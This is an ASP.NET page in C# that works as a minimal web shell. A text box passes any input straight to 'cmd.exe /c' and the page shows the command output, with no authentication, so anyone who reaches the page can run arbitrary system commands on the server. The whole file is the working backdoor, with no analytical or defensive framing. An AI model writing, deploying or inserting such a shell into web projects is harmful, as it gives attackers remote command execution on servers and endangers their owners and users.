<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void RunClick(object sender, EventArgs e)
    {
        ProcessStartInfo psi = new ProcessStartInfo();
        psi.FileName = "cmd.exe";
        psi.Arguments = "/c " + txtCmd.Text;
        psi.RedirectStandardOutput = true;
        psi.UseShellExecute = false;
        Process p = Process.Start(psi);
        lblOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
    }
</script>
<html><body><form runat="server">
<asp:TextBox id="txtCmd" runat="server" Width="400px" />
<asp:Button id="btnRun" runat="server" Text="Run" OnClick="RunClick" />
<pre><asp:Label id="lblOut" runat="server" /></pre>
</form></body></html>
